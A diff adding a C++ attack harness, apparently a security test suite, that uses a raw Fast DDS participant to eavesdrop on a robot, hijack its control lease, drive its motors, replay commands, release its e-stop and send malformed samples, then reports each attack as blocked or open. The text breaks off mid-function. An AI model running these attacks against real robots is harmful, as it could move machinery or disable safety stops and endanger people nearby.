@@ -1,0 +1,1110 @@
+// attacker: what someone on the robot's network can do to it with a stock DDS stack. A raw Fast
+// DDS DomainParticipant (UDPv4 only, the generated IDL types and hand-made CDR), no mostar client
+// code. It runs every attack once against a running robot_server and prints one line per attack:
+//
+//   ATTACK name=NAME outcome=blocked|open|error evidence="key=value ..."
+//
+// then "ROBOT alive=yes|no health_age_s=S". An attack is "open" when the robot did what the
+// attacker wanted (it published it, or its simulated motors moved, as odometry shows).
+//
+// Credentials: a participant without any certificate always attacks. With --pki DIR (a PKI made
+// by deploy/security/make_pki.sh) two insiders attack too: --pilot-cert (a pilot certificate of
+// the role table, weaker than the victim) and --observer-cert (an observer certificate). Each
+// insider announces its certificate in USER_DATA as mostar participants do ("mostar.cert.der.1:"
+// then the DER from NAME.cert.der), so that the robot knows who it is. The robot's state is
+// watched by a separate witness participant (--witness-cert under --pki: a legitimate observer).
+//
+// Expects a live pilot (--victim) holding the lease at start, sending idle commands
+// (enable=false) and clock pings; --claim is a stronger pilot id of the role table that no
+// participant has a certificate for.
+#include <fastdds/rtps/transport/UDPv4TransportDescriptor.h>
+
+#include <CLI/CLI.hpp>
+#include <algorithm>
+#include <atomic>
+#include <chrono>
+#include <cmath>
+#include <csignal>
+#include <cstring>
+#include <exception>
+#include <fastdds/dds/domain/DomainParticipant.hpp>
+#include <fastdds/dds/domain/DomainParticipantFactory.hpp>
+#include <fastdds/dds/publisher/DataWriter.hpp>
+#include <fastdds/dds/publisher/Publisher.hpp>
+#include <fastdds/dds/subscriber/DataReader.hpp>
+#include <fastdds/dds/subscriber/DataReaderListener.hpp>
+#include <fastdds/dds/subscriber/SampleInfo.hpp>
+#include <fastdds/dds/subscriber/Subscriber.hpp>
+#include <fastdds/dds/topic/TopicDataType.hpp>
+#include <fstream>
+#include <functional>
+#include <iomanip>
+#include <iostream>
+#include <iterator>
+#include <map>
+#include <memory>
+#include <mutex>
+#include <optional>
+#include <sstream>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "mostar_msgsPubSubTypes.h"
+#include "ros2_msgsPubSubTypes.h"
+
+namespace attacker {
+namespace {
+
+namespace fdds = eprosima::fastdds::dds;
+namespace rtps = eprosima::fastrtps::rtps;
+namespace msg = mostar_msgs::msg::dds_;
+using Clock = std::chrono::steady_clock;
+using namespace std::chrono_literals;
+
+// Topic names and type names as robot_server publishes them (docs/architecture.md, Topics).
+constexpr const char* kCameraLeft = "rt/mostar/camera/left/image_raw/compressed";
+constexpr const char* kScan = "rt/mostar/scan";
+constexpr const char* kOdometry = "rt/mostar/odom";
+constexpr const char* kCommand = "rt/mostar/cmd_vel";
+constexpr const char* kEstop = "rt/mostar/estop";
+constexpr const char* kRequest = "rt/mostar/control/request";
+constexpr const char* kLease = "rt/mostar/control/lease";
+constexpr const char* kHealth = "rt/mostar/health";
+constexpr const char* kPing = "rt/mostar/clock/ping";
+constexpr const char* kPong = "rt/mostar/clock/pong";
+constexpr const char* kCommandType = "mostar_msgs::msg::dds_::VelocityCommand_";
+constexpr const char* kEstopType = "mostar_msgs::msg::dds_::EmergencyStop_";
+constexpr const char* kRequestType = "mostar_msgs::msg::dds_::ControlRequest_";
+constexpr const char* kPingType = "mostar_msgs::msg::dds_::ClockProbe_";
+
+// Odometry faster than this (m/s) means the robot moved; the attacks drive at 0.15-0.3 m/s.
+constexpr double kMovedMps = 0.08;
+
+// Wall clock, nanoseconds since the epoch (the robot's stamps are on the same clock here).
+int64_t WallNowNs() {
+  return std::chrono::duration_cast<std::chrono::nanoseconds>(
+             std::chrono::system_clock::now().time_since_epoch())
+      .count();
+}
+builtin_interfaces::msg::dds_::Time_ Stamp(int64_t ns) {
+  builtin_interfaces::msg::dds_::Time_ t;
+  t.sec(static_cast<int32_t>(ns / 1'000'000'000));
+  t.nanosec(static_cast<uint32_t>(ns % 1'000'000'000));
+  return t;
+}
+int64_t Nanos(const builtin_interfaces::msg::dds_::Time_& t) {
+  return int64_t{t.sec()} * 1'000'000'000 + t.nanosec();
+}
+
+// CDR (little endian) by hand: samples the generated types cannot express (1 MB strings,
+// truncated or lying lengths). Alignment counts from after the 4-byte encapsulation header.
+class CdrBytes {
+ public:
+  CdrBytes() : bytes_{0x00, 0x01, 0x00, 0x00} {}
+  CdrBytes& U32(uint32_t v) { return Align(4).Raw(&v, 4); }
+  CdrBytes& I32(int32_t v) { return Align(4).Raw(&v, 4); }
+  CdrBytes& U64(uint64_t v) { return Align(8).Raw(&v, 8); }
+  CdrBytes& F64(double v) { return Align(8).Raw(&v, 8); }
+  CdrBytes& Bool(bool v) {
+    bytes_.push_back(v ? 1 : 0);
+    return *this;
+  }
+  CdrBytes& Time(int64_t ns) {
+    return I32(static_cast<int32_t>(ns / 1'000'000'000))
+        .U32(static_cast<uint32_t>(ns % 1'000'000'000));
+  }
+  CdrBytes& String(const std::string& s) {
+    U32(static_cast<uint32_t>(s.size() + 1));
+    bytes_.insert(bytes_.end(), s.begin(), s.end());
+    bytes_.push_back(0);
+    return *this;
+  }
+  std::vector<uint8_t> Take() { return std::move(bytes_); }
+
+ private:
+  CdrBytes& Align(size_t n) {
+    while ((bytes_.size() - 4) % n != 0) bytes_.push_back(0);
+    return *this;
+  }
+  CdrBytes& Raw(const void* p, size_t n) {
+    const auto* b = static_cast<const uint8_t*>(p);
+    bytes_.insert(bytes_.end(), b, b + n);
+    return *this;
+  }
+  std::vector<uint8_t> bytes_;
+};
+
+// A type that puts whatever bytes it is given on the wire under another type's name.
+class RawType : public fdds::TopicDataType {
+ public:
+  RawType(const std::string& name, uint32_t max_bytes) {
+    setName(name.c_str());
+    m_typeSize = max_bytes;
+    m_isGetKeyDefined = false;
+  }
+  bool serialize(void* data, rtps::SerializedPayload_t* payload) override {
+    const auto* bytes = static_cast<std::vector<uint8_t>*>(data);
+    if (bytes->size() > payload->max_size) return false;
+    std::memcpy(payload->data, bytes->data(), bytes->size());
+    payload->length = static_cast<uint32_t>(bytes->size());
+    payload->encapsulation = bytes->size() > 1 && (*bytes)[1] == 1 ? CDR_LE : CDR_BE;
+    return true;
+  }
+  bool deserialize(rtps::SerializedPayload_t*, void*) override { return false; }
+  std::function<uint32_t()> getSerializedSizeProvider(void* data) override {
+    return
+        [data] { return static_cast<uint32_t>(static_cast<std::vector<uint8_t>*>(data)->size()); };
+  }
+  void* createData() override { return new std::vector<uint8_t>(); }
+  void deleteData(void* data) override { delete static_cast<std::vector<uint8_t>*>(data); }
+  bool getKey(void*, rtps::InstanceHandle_t*, bool) override { return false; }
+};
+
+// The generated type, refusing (instead of throwing through Fast DDS) samples it cannot
+// decode: this process reads topics its own raw writers write garbage to.
+template <class PubSub>
+class SafeType : public PubSub {
+ public:
+  bool deserialize(rtps::SerializedPayload_t* payload, void* data) override {
+    try {
+      return PubSub::deserialize(payload, data);
+    } catch (const std::exception&) {
+      return false;
+    }
+  }
+};
+
+template <class Sample>
+class TakeListener : public fdds::DataReaderListener {
+ public:
+  explicit TakeListener(std::function<void(const Sample&)> on_sample)
+      : on_sample_(std::move(on_sample)) {}
+  void on_data_available(fdds::DataReader* reader) override {
+    Sample sample;
+    fdds::SampleInfo info;
+    while (reader->take_next_sample(&sample, &info) ==
+           eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK) {
+      if (info.valid_data) on_sample_(sample);
+    }
+  }
+
+ private:
+  std::function<void(const Sample&)> on_sample_;
+};
+
+// QoS the robot's readers and writers accept (docs/architecture.md, Topics).
+fdds::DataWriterQos CommandWriterQos() {
+  fdds::DataWriterQos qos = fdds::DATAWRITER_QOS_DEFAULT;
+  qos.reliability().kind = fdds::RELIABLE_RELIABILITY_QOS;
+  qos.history().kind = fdds::KEEP_LAST_HISTORY_QOS;
+  qos.history().depth = 8;  // several ids per tick: none replaces another before it is sent
+  qos.ownership().kind = fdds::SHARED_OWNERSHIP_QOS;
+  qos.deadline().period = eprosima::fastrtps::Duration_t(0.2);
+  qos.liveliness().kind = fdds::MANUAL_BY_TOPIC_LIVELINESS_QOS;
+  qos.liveliness().lease_duration = eprosima::fastrtps::Duration_t(0.5);
+  qos.liveliness().announcement_period = eprosima::fastrtps::Duration_t(0.15);
+  qos.publish_mode().kind = fdds::ASYNCHRONOUS_PUBLISH_MODE;
+  qos.endpoint().history_memory_policy = rtps::DYNAMIC_RESERVE_MEMORY_MODE;
+  return qos;
+}
+fdds::DataWriterQos ControlWriterQos() {
+  fdds::DataWriterQos qos = fdds::DATAWRITER_QOS_DEFAULT;
+  qos.reliability().kind = fdds::RELIABLE_RELIABILITY_QOS;
+  qos.history().kind = fdds::KEEP_LAST_HISTORY_QOS;
+  qos.history().depth = 10;
+  qos.publish_mode().kind = fdds::ASYNCHRONOUS_PUBLISH_MODE;
+  qos.endpoint().history_memory_policy = rtps::DYNAMIC_RESERVE_MEMORY_MODE;
+  return qos;
+}
+fdds::DataReaderQos ReaderQos(bool reliable) {
+  fdds::DataReaderQos qos = fdds::DATAREADER_QOS_DEFAULT;
+  qos.reliability().kind =
+      reliable ? fdds::RELIABLE_RELIABILITY_QOS : fdds::BEST_EFFORT_RELIABILITY_QOS;
+  qos.history().kind = fdds::KEEP_LAST_HISTORY_QOS;
+  qos.history().depth = 5;
+  qos.endpoint().history_memory_policy = rtps::DYNAMIC_RESERVE_MEMORY_MODE;
+  return qos;
+}
+
+std::vector<uint8_t> ReadFileBytes(const std::string& path) {
+  std::ifstream in(path, std::ios::binary);
+  return std::vector<uint8_t>(std::istreambuf_iterator<char>(in), {});
+}
+
+// One participant with its topics, writers and readers; everything is deleted with it.
+class Peer {
+ public:
+  // `cert` empty: no DDS Security at all. Otherwise the files NAME.* of `pki`; `announce`
+  // puts the certificate into USER_DATA the way mostar participants do.
+  static std::unique_ptr<Peer> Create(int domain, const std::string& label, const std::string& pki,
+                                      const std::string& cert, bool announce) {
+    fdds::DomainParticipantQos qos = fdds::PARTICIPANT_QOS_DEFAULT;
+    qos.name(label);
+    qos.transport().use_builtin_transports = false;
+    auto udp = std::make_shared<eprosima::fastdds::rtps::UDPv4TransportDescriptor>();
+    qos.transport().user_transports.push_back(udp);
+    if (!cert.empty()) {
+      const std::string f = "file://" + pki + "/";
+      auto& p = qos.properties().properties();
+      p.emplace_back("dds.sec.auth.plugin", "builtin.PKI-DH");
+      p.emplace_back("dds.sec.auth.builtin.PKI-DH.identity_ca", f + "identity_ca.cert.pem");
+      p.emplace_back("dds.sec.auth.builtin.PKI-DH.identity_certificate", f + cert + ".cert.pem");
+      p.emplace_back("dds.sec.auth.builtin.PKI-DH.private_key", f + cert + ".key.pem");
+      p.emplace_back("dds.sec.access.plugin", "builtin.Access-Permissions");
+      p.emplace_back("dds.sec.access.builtin.Access-Permissions.permissions_ca",
+                     f + "permissions_ca.cert.pem");
+      p.emplace_back("dds.sec.access.builtin.Access-Permissions.governance", f + "governance.p7s");
+      p.emplace_back("dds.sec.access.builtin.Access-Permissions.permissions",
+                     f + cert + ".permissions.p7s");
+      p.emplace_back("dds.sec.crypto.plugin", "builtin.AES-GCM-GMAC");
+      if (announce) {
+        const std::string tag = "mostar.cert.der.1:";
+        std::vector<uint8_t> data(tag.begin(), tag.end());
+        const std::vector<uint8_t> der = ReadFileBytes(pki + "/" + cert + ".cert.der");
+        data.insert(data.end(), der.begin(), der.end());
+        qos.user_data().data_vec(data);
+      }
+    }
+    auto* participant =
+        fdds::DomainParticipantFactory::get_instance()->create_participant(domain, qos);
+    if (participant == nullptr) return nullptr;
+    return std::unique_ptr<Peer>(new Peer(participant, label, cert));
+  }
+  ~Peer() {
+    participant_->delete_contained_entities();
+    fdds::DomainParticipantFactory::get_instance()->delete_participant(participant_);
+  }
+  Peer(const Peer&) = delete;
+  Peer& operator=(const Peer&) = delete;
+
+  const std::string& label() const { return label_; }
+  const std::string& cert() const { return cert_; }
+
+  // nullptr when refused (permissions) or the topic cannot be made.
+  fdds::DataWriter* Writer(const char* topic, fdds::TypeSupport type,
+                           const fdds::DataWriterQos& qos) {
+    fdds::Topic* t = TopicOf(topic, type);
+    return t == nullptr ? nullptr : publisher_->create_datawriter(t, qos);
+  }
+  template <class PubSub>
+  fdds::DataWriter* Writer(const char* topic, const fdds::DataWriterQos& qos) {
+    return Writer(topic, fdds::TypeSupport(new PubSub()), qos);
+  }
+  template <class PubSub>
+  bool Read(const char* topic, bool reliable,
+            std::function<void(const typename PubSub::type&)> on_sample) {
+    fdds::Topic* t = TopicOf(topic, fdds::TypeSupport(new SafeType<PubSub>()));
+    if (t == nullptr) return false;
+    auto listener = std::make_unique<TakeListener<typename PubSub::type>>(std::move(on_sample));
+    fdds::DataReader* reader =
+        subscriber_->create_datareader(t, ReaderQos(reliable), listener.get());
+    if (reader == nullptr) return false;
+    readers_.push_back(reader);
+    listeners_.push_back(std::move(listener));
+    return true;
+  }
+  // Stops reading (before this process writes samples its own readers cannot decode).
+  void DeleteReaders() {
+    for (fdds::DataReader* reader : readers_) {
+      reader->set_listener(nullptr);
+      subscriber_->delete_datareader(reader);
+    }
+    readers_.clear();
+  }
+  void Delete(fdds::DataWriter* writer) {
+    if (writer != nullptr) publisher_->delete_datawriter(writer);
+  }
+
+ private:
+  Peer(fdds::DomainParticipant* participant, std::string label, std::string cert)
+      : participant_(participant), label_(std::move(label)), cert_(std::move(cert)) {
+    publisher_ = participant_->create_publisher(fdds::PUBLISHER_QOS_DEFAULT);
+    subscriber_ = participant_->create_subscriber(fdds::SUBSCRIBER_QOS_DEFAULT);
+  }
+  fdds::Topic* TopicOf(const char* name, fdds::TypeSupport type) {
+    auto it = topics_.find(name);
+    if (it != topics_.end()) return it->second;
+    const std::string type_name = type.get_type_name();
+    if (participant_->find_type(type_name).empty() &&
+        type.register_type(participant_) != eprosima::fastrtps::types::ReturnCode_t::RETCODE_OK) {
+      return nullptr;
+    }
+    fdds::Topic* topic = participant_->create_topic(name, type_name, fdds::TOPIC_QOS_DEFAULT);
+    if (topic != nullptr) topics_[name] = topic;
+    return topic;
+  }
+
+  fdds::DomainParticipant* participant_;
+  std::string label_;
+  std::string cert_;
+  fdds::Publisher* publisher_ = nullptr;
+  fdds::Subscriber* subscriber_ = nullptr;
+  std::map<std::string, fdds::Topic*> topics_;
+  std::vector<fdds::DataReader*> readers_;
+  std::vector<std::unique_ptr<fdds::DataReaderListener>> listeners_;
+};
+
+// What the witness sees of the robot.
+class Witness {
+ public:
+  bool Start(Peer* peer) {
+    return peer->Read<msg::RobotHealth_PubSubType>(
+               kHealth, false, [this](const msg::RobotHealth_& h) { OnHealth(h); }) &&
+           peer->Read<msg::ControlLease_PubSubType>(kLease, false,
+                                                    [this](const msg::ControlLease_& l) {
+                                                      std::lock_guard<std::mutex> lock(mutex_);
+                                                      holder_ = l.holder_id().to_string();
+                                                      lease_sequence_ = l.lease_sequence();
+                                                      holders_seen_.push_back(holder_);
+                                                    }) &&
+           peer->Read<nav_msgs::msg::dds_::Odometry_PubSubType>(
+               kOdometry, false, [this](const nav_msgs::msg::dds_::Odometry_& o) {
+                 std::lock_guard<std::mutex> lock(mutex_);
+                 const double v = o.twist().twist().linear().x();
+                 last_linear_ = v;
+                 max_linear_ = std::max(max_linear_, v);
+                 min_linear_ = std::min(min_linear_, v);
+                 ++odometry_;
+               });
+  }
+  // Forgets the motion and the holders seen so far.
+  void ResetWindow() {
+    std::lock_guard<std::mutex> lock(mutex_);
+    max_linear_ = min_linear_ = 0;
+    holders_seen_.clear();
+  }
+  // Waits (up to 5 s) until the robot stands still, then forgets the motion seen so far.
+  void ResetWindowWhenStill() {
+    const auto deadline = Clock::now() + 5s;
+    while (std::abs(Locked(last_linear_)) > 0.005 && Clock::now() < deadline) {
+      std::this_thread::sleep_for(50ms);
+    }
+    std::this_thread::sleep_for(200ms);
+    ResetWindow();
+  }
+  double MaxLinear() const { return Locked(max_linear_); }
+  double MinLinear() const { return Locked(min_linear_); }
+  std::string Holder() const { return Locked(holder_); }
+  uint64_t LeaseSequence() const { return Locked(lease_sequence_); }
+  bool EverHeld(const std::string& id) const {
+    std::lock_guard<std::mutex> lock(mutex_);
+    return std::find(holders_seen_.begin(), holders_seen_.end(), id) != holders_seen_.end();
+  }
+  bool Estop() const { return Locked(estop_); }
+  int Healths() const { return Locked(healths_); }
+  // Seconds since the last health sample arrived; a large number when none did.
+  double HealthAgeS() const {
+    std::lock_guard<std::mutex> lock(mutex_);
+    if (healths_ == 0) return 1e9;
+    return std::chrono::duration<double>(Clock::now() - last_health_).count();
+  }
+  // Counter `name` of health device `device`; -1 when absent.
+  int64_t Counter(const std::string& device, const std::string& name) const {
+    std::lock_guard<std::mutex> lock(mutex_);
+    auto it = counters_.find(device + "." + name);
+    return it == counters_.end() ? -1 : it->second;
+  }
+  // Waits until two health samples arrived after now, so counters include what was sent.
+  void WaitFreshHealth() const {
+    const int start = Healths();
+    const auto deadline = Clock::now() + 5s;
+    while (Healths() < start + 2 && Clock::now() < deadline) std::this_thread::sleep_for(50ms);
+  }
+
+ private:
+  template <class T>
+  T Locked(const T& value) const {
+    std::lock_guard<std::mutex> lock(mutex_);
+    return value;
+  }
+  void OnHealth(const msg::RobotHealth_& h) {
+    std::lock_guard<std::mutex> lock(mutex_);
+    ++healths_;
+    last_health_ = Clock::now();
+    estop_ = h.estop_engaged();
+    for (const auto& device : h.devices()) {
+      for (const auto& counter : device.counters()) {
+        counters_[device.name().to_string() + "." + counter.name().to_string()] =
+            static_cast<int64_t>(counter.value());
+      }
+    }
+  }
+
+  mutable std::mutex mutex_;
+  double last_linear_ = 0;
+  double max_linear_ = 0;
+  double min_linear_ = 0;
+  int odometry_ = 0;
+  std::string holder_;
+  uint64_t lease_sequence_ = 0;
+  std::vector<std::string> holders_seen_;
+  bool estop_ = false;
+  int healths_ = 0;
+  Clock::time_point last_health_;
+  std::map<std::string, int64_t> counters_;
+};
+
+// An attacking participant and its writers on the robot's input topics (nullptr where refused).
+struct Attacker {
+  std::unique_ptr<Peer> peer;      // typed samples
+  std::unique_ptr<Peer> raw_peer;  // hand-made CDR under the same type names
+  fdds::DataWriter* command = nullptr;
+  fdds::DataWriter* request = nullptr;
+  fdds::DataWriter* estop = nullptr;
+  fdds::DataWriter* ping = nullptr;
+  std::map<std::string, fdds::DataWriter*> raw;  // by topic
+
+  std::string Refused() const {
+    std::string out;
+    for (const auto& [name, writer] :
+         {std::pair<const char*, fdds::DataWriter*>{"cmd_vel", command},
+          {"request", request},
+          {"estop", estop},
+          {"ping", ping}}) {
+      if (writer == nullptr) out += (out.empty() ? "" : ",") + std::string(name);
+    }
+    return out.empty() ? "none" : out;
+  }
+};
+
+size_t Matched(fdds::DataWriter* writer) {
+  if (writer == nullptr) return 0;
+  fdds::PublicationMatchedStatus status;
+  writer->get_publication_matched_status(status);
+  return static_cast<size_t>(status.current_count);
+}
+
+int64_t RssKb(int pid) {
+  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
+  std::string line;
+  while (std::getline(in, line)) {
+    if (line.rfind("VmRSS:", 0) == 0) return std::stoll(line.substr(6));
+  }
+  return -1;
+}
+bool Alive(int pid) { return pid > 0 && kill(pid, 0) == 0; }
+
+class Suite {
+ public:
+  struct Options {
+    int domain = 0;
+    std::string pki;
+    std::string pilot_cert;
+    std::string observer_cert;
+    std::string witness_cert;
+    std::string victim = "alice";
+    std::string claim = "bob";
+    int robot_pid = 0;
+  };
+
+  explicit Suite(Options options) : options_(std::move(options)) {}
+
+  int Run() {
+    const bool secure = !options_.pki.empty();
+    witness_peer_ = Peer::Create(options_.domain, "witness", options_.pki,
+                                 secure ? options_.witness_cert : "", false);
+    if (!witness_peer_ || !witness_.Start(witness_peer_.get())) {
+      std::cerr << "attacker: the witness participant could not be made\n";
+      return 1;
+    }
+    // Every credential attacks: nobody, then the insiders.
+    if (!AddAttacker("anonymous", "")) return 1;
+    if (secure && !options_.pilot_cert.empty() && !AddAttacker("pilot", options_.pilot_cert)) {
+      return 1;
+    }
+    if (secure && !options_.observer_cert.empty() &&
+        !AddAttacker("observer", options_.observer_cert)) {
+      return 1;
+    }
+    // The eavesdropper: the participant without a certificate reads what it can.
+    Peer* anon = attackers_.front().peer.get();
+    anon->Read<sensor_msgs::msg::dds_::CompressedImage_PubSubType>(
+        kCameraLeft, true, [this](const auto&) { ++heard_video_; });
+    anon->Read<sensor_msgs::msg::dds_::LaserScan_PubSubType>(
+        kScan, false, [this](const auto&) { ++heard_scan_; });
+    anon->Read<msg::RobotHealth_PubSubType>(kHealth, false,
+                                            [this](const auto&) { ++heard_health_; });
+    anon->Read<nav_msgs::msg::dds_::Odometry_PubSubType>(kOdometry, false,
+                                                         [this](const auto&) { ++heard_odom_; });
+    anon->Read<msg::VelocityCommand_PubSubType>(
+        kCommand, false, [this](const msg::VelocityCommand_& c) {
+          std::lock_guard<std::mutex> lock(mutex_);
+          ++heard_commands_;
+          if (c.sender_id().to_string() == options_.victim) {
+            captured_ = c;
+          }
+        });
+    anon->Read<msg::ClockProbe_PubSubType>(kPong, false, [this](const msg::ClockProbe_& p) {
+      std::lock_guard<std::mutex> lock(mutex_);
+      pongs_[p.sequence_number()] = p;
+    });
+
+    const auto deadline = Clock::now() + 30s;
+    while (witness_.Healths() == 0 && Clock::now() < deadline) std::this_thread::sleep_for(100ms);
+    if (witness_.Healths() == 0) {
+      std::cerr << "attacker: the witness hears no health from the robot\n";
+      return 1;
+    }
+    if (!WaitForHolder(options_.victim, 20s)) {
+      std::cerr << "attacker: the victim " << options_.victim << " does not hold the lease\n";
+      return 1;
+    }
+    WaitMatchedWriters(8s);
+    std::cout << "attacker: witness ready; credentials:";
+    for (const Attacker& a : attackers_) {
+      std::cout << " " << a.peer->label() << "(refused=" << a.Refused()
+                << " matched_cmd=" << Matched(a.command) << ")";
+    }
+    std::cout << std::endl;
+
+    Eavesdrop();
+    LeaseUnderAnotherPilotsId();
+    Drive("arm_and_drive_forward", 0.3);
+    Drive("reverse", -0.15);
+    HijackLivePilot();
+    ReplayStaleCommand();
+    ForgedClockPings();
+    EstopReleaseWithoutTheHoldersIdentity();
+    HugeStrings();
+    DistinctIds();
+    MalformedSamples();
+
+    witness_.WaitFreshHealth();
+    const bool alive = Alive(options_.robot_pid) || options_.robot_pid == 0;
+    std::cout << "ROBOT alive=" << (alive ? "yes" : "no") << " health_age_s=" << std::fixed
+              << std::setprecision(2) << witness_.HealthAgeS()
+              << " rss_kb=" << RssKb(options_.robot_pid) << std::endl;
+    return 0;
+  }
+
+ private:
+  bool AddAttacker(const std::string& label, const std::string& cert) {
+    Attacker a;
+    a.peer = Peer::Create(options_.domain, label, options_.pki, cert, true);
+    a.raw_peer = Peer::Create(options_.domain, label + "_raw", options_.pki, cert, true);
+    if (!a.peer || !a.raw_peer) {
+      std::cerr << "attacker: participant " << label << " could not be made\n";
+      return false;
+    }
+    a.command = a.peer->Writer<msg::VelocityCommand_PubSubType>(kCommand, CommandWriterQos());
+    a.request = a.peer->Writer<msg::ControlRequest_PubSubType>(kRequest, ControlWriterQos());
+    a.estop = a.peer->Writer<msg::EmergencyStop_PubSubType>(kEstop, ControlWriterQos());
+    a.ping = a.peer->Writer<msg::ClockProbe_PubSubType>(kPing, ControlWriterQos());
+    constexpr uint32_t kRawMax = 2u << 20;
+    for (const auto& [topic, type] :
+         std::vector<std::pair<const char*, const char*>>{{kCommand, kCommandType},
+                                                          {kEstop, kEstopType},
+                                                          {kRequest, kRequestType},
+                                                          {kPing, kPingType}}) {
+      const bool command = std::string(topic) == kCommand;
+      fdds::DataWriterQos qos = command ? CommandWriterQos() : ControlWriterQos();
+      qos.history().depth = 4;
+      fdds::DataWriter* w =
+          a.raw_peer->Writer(topic, fdds::TypeSupport(new RawType(type, kRawMax)), qos);
+      if (w != nullptr) a.raw[topic] = w;
+    }
+    attackers_.push_back(std::move(a));
+    return true;
+  }
+
+  void WaitMatchedWriters(std::chrono::seconds timeout) {
+    const auto deadline = Clock::now() + timeout;
+    auto all = [this] {
+      for (const Attacker& a : attackers_) {
+        for (fdds::DataWriter* w : {a.command, a.request, a.estop, a.ping}) {
+          if (w != nullptr && Matched(w) == 0) return false;
+        }
+        for (const auto& [topic, w] : a.raw) {
+          if (Matched(w) == 0) return false;
+        }
+      }
+      return true;
+    };
+    while (!all() && Clock::now() < deadline) std::this_thread::sleep_for(100ms);
+  }
+
+  bool WaitForHolder(const std::string& id, std::chrono::seconds timeout) {
+    const auto deadline = Clock::now() + timeout;
+    while (witness_.Holder() != id && Clock::now() < deadline) std::this_thread::sleep_for(100ms);
+    return witness_.Holder() == id;
+  }
+
+  // The ids an attacker writes under: the claimed ones, and its own certificate's name.
+  static std::vector<std::string> Ids(const Attacker& a, std::vector<std::string> claimed) {
+    if (!a.peer->cert().empty()) claimed.push_back(a.peer->cert());
+    return claimed;
+  }
+
+  void Report(const std::string& name, bool open, const std::string& evidence) {
+    std::cout << "ATTACK name=" << name << " outcome=" << (open ? "open" : "blocked")
+              << " evidence=\"" << evidence << "\"" << std::endl;
+  }
+  void ReportError(const std::string& name, const std::string& evidence) {
+    std::cout << "ATTACK name=" << name << " outcome=error evidence=\"" << evidence << "\""
+              << std::endl;
+  }
+
+  static void WriteCommand(fdds::DataWriter* w, const std::string& id, uint64_t sequence,
+                           int64_t stamp_ns, double linear, double angular, bool enable) {
+    if (w == nullptr) return;
+    msg::VelocityCommand_ c;
+    c.stamp(Stamp(stamp_ns));
+    c.sequence_number(sequence);
+    c.sender_id(id);
+    c.linear_mps(linear);
+    c.angular_radps(angular);
+    c.enable(enable);
+    w->write(&c);
+  }
+  static void WriteRequest(fdds::DataWriter* w, const std::string& id, bool take) {
+    if (w == nullptr) return;
+    msg::ControlRequest_ r;
+    r.stamp(Stamp(WallNowNs()));
+    r.sender_id(id);
+    r.strength(1'000'000);
+    r.take(take);
+    w->write(&r);
+  }
+  static void WriteEstop(fdds::DataWriter* w, const std::string& id, bool engage) {
+    if (w == nullptr) return;
+    msg::EmergencyStop_ e;
+    e.stamp(Stamp(WallNowNs()));
+    e.sender_id(id);
+    e.engage(engage);
+    w->write(&e);
+  }
+
+  // Sends drive commands under `ids` for `duration`: 10 with enable=false (arming), then
+  // enable=true at `linear`; stamps from `stamp_of` (default now). Take requests as `take_as`
+  // every 250 ms when given.
+  void DriveFor(std::chrono::milliseconds duration, const std::vector<std::string>& claimed,
+                double linear, uint64_t first_sequence, const std::string& take_as,
+                std::function<int64_t()> stamp_of = WallNowNs,
+                std::function<void()> each_tick = nullptr) {
+    const auto end = Clock::now() + duration;
+    uint64_t sequence = first_sequence;
+    for (int tick = 0; Clock::now() < end; ++tick) {
+      const bool enable = tick >= 10;
+      for (const Attacker& a : attackers_) {
+        if (!take_as.empty() && tick % 5 == 0) {
+          for (const std::string& id : Ids(a, {take_as})) WriteRequest(a.request, id, true);
+        }
+        for (const std::string& id : Ids(a, claimed)) {
+          WriteCommand(a.command, id, sequence, stamp_of(), enable ? linear : 0, 0, enable);
+        }
+      }
+      if (each_tick) each_tick();
+      ++sequence;
+      std::this_thread::sleep_for(50ms);
+    }
+    // Stop cleanly (what a pilot letting go of the keys sends).
+    for (int i = 0; i < 5; ++i) {
+      for (const Attacker& a : attackers_) {
+        for (const std::string& id : Ids(a, claimed)) {
+          WriteCommand(a.command, id, sequence, stamp_of(), 0, 0, false);
+        }
+      }
+      ++sequence;
+      std::this_thread::sleep_for(50ms);
+    }
+  }
+
+  std::string Motion() const {
+    std::ostringstream out;
+    out << std::fixed << std::setprecision(3) << "odom_max_linear=" << witness_.MaxLinear()
+        << " odom_min_linear=" << witness_.MinLinear();
+    return out.str();
+  }
+  bool Moved() const {
+    return witness_.MaxLinear() > kMovedMps || witness_.MinLinear() < -kMovedMps;
+  }
+  std::string Counters(const std::vector<std::string>& names) const {
+    std::string out;
+    for (const std::string& n : names) {
+      const auto dot = n.find('.');
+      out += " " + n.substr(dot + 1) + "=" +
+             std::to_string(witness_.Counter(n.substr(0, dot), n.substr(dot + 1)));
+    }
+    return out;
+  }
+
+  // 1. Read video, scans, health, odometry and the pilot's commands without any certificate.
+  void Eavesdrop() {
+    std::this_thread::sleep_for(3s);
+    std::lock_guard<std::mutex> lock(mutex_);
+    replay_source_ = captured_;  // replayed much later (attack 6)
+    const int heard = heard_video_ + heard_scan_ + heard_health_ + heard_odom_ + heard_commands_;
+    Report("eavesdrop", heard > 0,
+           "video=" + std::to_string(heard_video_) + " scan=" + std::to_string(heard_scan_) +
+               " health=" + std::to_string(heard_health_) + " odom=" + std::to_string(heard_odom_) +
+               " cmd_vel=" + std::to_string(heard_commands_));
+  }
+
+  // 2. Take the lease as a stronger pilot of the role table, with no certificate for it.
+  void LeaseUnderAnotherPilotsId() {
+    witness_.ResetWindowWhenStill();
+    const uint64_t before = witness_.LeaseSequence();
+    for (int i = 0; i < 20; ++i) {
+      for (const Attacker& a : attackers_) {
+        for (const std::string& id : Ids(a, {options_.claim})) WriteRequest(a.request, id, true);
+      }
+      std::this_thread::sleep_for(100ms);
+    }
+    witness_.WaitFreshHealth();
+    Report("lease_as_another_pilot", witness_.EverHeld(options_.claim),
+           "claimed=" + options_.claim + " holder=" + witness_.Holder() + " lease_sequence=" +
+               std::to_string(before) + "->" + std::to_string(witness_.LeaseSequence()) +
+               Counters({"network.dropped_control_request", "network.sender_mismatch_dropped"}));
+  }
+
+  // 3./4. Arm and drive under the claimed id (taking the lease as it goes).
+  void Drive(const std::string& name, double linear) {
+    witness_.ResetWindowWhenStill();
+    const uint64_t first = 100'000 + static_cast<uint64_t>(++drives_) * 10'000;
+    DriveFor(3500ms, {options_.claim}, linear, first, options_.claim);
+    std::this_thread::sleep_for(300ms);
+    Report(name, linear > 0 ? witness_.MaxLinear() > kMovedMps : witness_.MinLinear() < -kMovedMps,
